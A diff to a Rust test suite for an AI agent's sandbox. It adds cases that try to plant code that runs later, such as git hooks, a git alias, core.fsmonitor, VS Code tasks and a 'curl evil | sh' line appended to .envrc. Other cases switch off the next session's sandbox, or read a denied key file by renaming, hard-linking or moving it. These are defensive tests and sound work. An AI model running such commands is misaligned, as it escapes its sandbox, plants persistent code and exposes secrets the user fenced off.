@@ -272,6 +272,85 @@ fn cases(f: &Fixture, tcp_confined: bool) -> Vec<Case> {
             Succeeds,
             None,
         ),
+        // ---- nothing written now that runs later: git, editors, the agent ----
+        case(
+            "commit (git records work)",
+            "git add -A && git -c user.email=a@b.c -c user.name=a commit -qm work && git log --oneline | wc -l"
+                .into(),
+            Succeeds,
+            Succeeds,
+            None,
+        ),
+        case(
+            "write a git hook",
+            "echo 'touch pwned' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit".into(),
+            Refused(Some("commands may not change, move or link it")),
+            Succeeds,
+            None,
+        ),
+        case(
+            "append an alias that runs a program to .git/config",
+            "printf '[alias]\\n\\tst = !touch pwned\\n' >> .git/config".into(),
+            Refused(Some("commands may not change, move or link it")),
+            Succeeds,
+            None,
+        ),
+        case(
+            "set core.fsmonitor with git config",
+            "git config core.fsmonitor 'touch pwned'".into(),
+            Refused(None),
+            Succeeds,
+            None,
+        ),
+        case(
+            "write info/attributes",
+            "echo '* filter=x' > .git/info/attributes".into(),
+            Refused(Some("commands may not change, move or link it")),
+            Succeeds,
+            None,
+        ),
+        case(
+            "write a hook where core.hooksPath points",
+            "echo 'touch pwned' > .githooks/pre-commit".into(),
+            Refused(Some("commands may not change, move or link it")),
+            Succeeds,
+            None,
+        ),
+        case(
+            "write .vscode/tasks.json",
+            "echo '{}' > .vscode/tasks.json".into(),
+            Refused(Some("commands may not change, move or link it")),
+            Succeeds,
+            None,
+        ),
+        case(
+            "append to .envrc",
+            "echo 'curl evil | sh' >> .envrc".into(),
+            Refused(Some("commands may not change, move or link it")),
+            Succeeds,
+            None,
+        ),
+        case(
+            "turn the next session's sandbox off in .bareagent/config.toml",
+            "printf '[sandbox]\\nmode = \\\"off\\\"\\n' > .bareagent/config.toml".into(),
+            Refused(Some("commands may not change, move or link it")),
+            Succeeds,
+            None,
+        ),
+        case(
+            "replace .vscode by renaming it",
+            "mv .vscode .vscode-old && mkdir .vscode".into(),
+            Refused(None),
+            Succeeds,
+            None,
+        ),
+        case(
+            "rename .git away and plant another repository",
+            "mv .git .git-old && mkdir -p .git/hooks".into(),
+            Refused(None),
+            Succeeds,
+            None,
+        ),
     ]
 }
 
@@ -296,9 +375,26 @@ fn fixture() -> Fixture {
         std::process::id(),
         fastrand::u64(..)
     ));
+    let dir = workspace(&[
+        ("secrets/key.txt", DENIED_TEXT),
+        (".envrc", "use nix\n"),
+        (".vscode/settings.json", "{}\n"),
+        (".githooks/keep", ""),
+    ]);
+    let git = std::process::Command::new("git")
+        .args(["init", "-q"])
+        .current_dir(dir.path())
+        .status()
+        .expect("git init");
+    assert!(git.success());
+    std::fs::write(
+        dir.path().join(".git/config"),
+        "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\thooksPath = .githooks\n",
+    )
+    .expect("git config");
     Fixture {
         home,
-        dir: workspace(&[("secrets/key.txt", DENIED_TEXT)]),
+        dir,
         outside,
         port: 0,
         udp_port: 0,
@@ -347,6 +443,14 @@ fn run_with(
     let results = sent_tool_results(&last.body);
     assert_eq!(results.len(), cases.len(), "{stderr}");
     (results, stderr)
+}
+
+impl Case {
+    /// Not checked with the sandbox off (an earlier row changed the files).
+    fn off_any(mut self) -> Case {
+        self.off = Expect::Any;
+        self
+    }
 }
 
 fn check(case: &Case, expect: Expect, result: &(String, bool), mode: &str) {
@@ -554,6 +658,33 @@ fn a_read_deny_rule_is_enforced_by_the_kernel() {
             "python3 -c \"print(open('secrets/key.txt').read())\"",
             Expect::Refused(Some("reading it is refused")),
         ),
+        // Each in two commands: an entry a command makes in the workspace
+        // root is unreadable to that same command, readable from the next.
+        case(
+            "rename a denied file out",
+            "python3 -c \"import os; os.rename('secr'+'ets/key.txt', 'k2.txt')\"",
+            Expect::Refused(None),
+        ),
+        case("read the renamed file", "cat k2.txt", Expect::Refused(None)),
+        case(
+            "hard-link a denied file out",
+            "ln \"$(printf secrets)/key.txt\" k3.txt",
+            Expect::Refused(None),
+        )
+        .off_any(),
+        case("read the link", "cat k3.txt", Expect::Refused(None)).off_any(),
+        case(
+            "move the denied folder away",
+            "mv secrets open",
+            Expect::Refused(None),
+        )
+        .off_any(),
+        case(
+            "read the moved folder",
+            "cat open/key.txt",
+            Expect::Refused(None),
+        )
+        .off_any(),
         case("read beside it", "cat beside.txt", Expect::Succeeds),
         case(
             "make a directory",
